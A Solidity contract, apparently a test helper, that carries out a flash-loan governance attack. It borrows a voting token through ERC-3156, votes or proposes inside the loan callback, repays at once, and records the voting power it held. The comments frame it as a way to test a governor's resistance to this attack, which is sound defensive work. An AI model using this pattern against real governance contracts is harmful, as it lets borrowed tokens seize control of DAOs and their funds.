// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IGovernor} from "@openzeppelin/contracts/governance/IGovernor.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";

/// @notice The attacker: borrows MINT, uses it in governance inside the loan's callback, repays in the same call.
/// It records what it saw while holding the loan, so a test can show the power it had (`votesDuringLoan`) and the
/// power the governor gave it (`weightCast`).
contract FlashLoanVoter is IERC3156FlashBorrower {
    enum Action {
        Hold,
        Vote,
        Propose
    }

    IERC3156FlashLender public immutable lender;
    IGovernor public immutable governor;
    address public immutable token;

    /// @notice getVotes(this) while holding the loan: what a governor reading current votes would count
    uint256 public votesDuringLoan;
    /// @notice the weight castVote returned inside the loan
    uint256 public weightCast;

    error FlashLoanVoterUntrustedLoan(address lender, address initiator);

    constructor(IERC3156FlashLender lender_, IGovernor governor_, address token_) {
        lender = lender_;
        governor = governor_;
        token = token_;
    }

    /// @notice Borrow `amount` and repay it at once: leaves the loan's vote checkpoints in the current second.
    function holdWithLoan(uint256 amount) external {
        lender.flashLoan(this, token, amount, abi.encode(Action.Hold, ""));
    }

    /// @notice Borrow `amount`, vote `support` on `proposalId`, repay: one transaction.
    function voteWithLoan(uint256 proposalId, uint8 support, uint256 amount) external {
        lender.flashLoan(this, token, amount, abi.encode(Action.Vote, abi.encode(proposalId, support)));
    }

    /// @notice Borrow `amount`, propose, repay: one transaction.
    function proposeWithLoan(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calldatas,
        string calldata description,
        uint256 amount
    ) external {
        bytes memory call = abi.encode(targets, values, calldatas, description);
        lender.flashLoan(this, token, amount, abi.encode(Action.Propose, call));
    }

    function onFlashLoan(
        address initiator,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        if (msg.sender != address(lender) || initiator != address(this)) {
            revert FlashLoanVoterUntrustedLoan(msg.sender, initiator);
        }
        votesDuringLoan = IVotes(token).getVotes(address(this));

        (Action action, bytes memory call) = abi.decode(data, (Action, bytes));
        if (action == Action.Vote) {
            (uint256 proposalId, uint8 support) = abi.decode(call, (uint256, uint8));
            weightCast = governor.castVote(proposalId, support);
        } else if (action == Action.Propose) {
            (
                address[] memory targets,
                uint256[] memory values,
                bytes[] memory calldatas,
                string memory description
            ) = abi.decode(call, (address[], uint256[], bytes[], string));
            governor.propose(targets, values, calldatas, description);
        }

        IERC20(token).approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
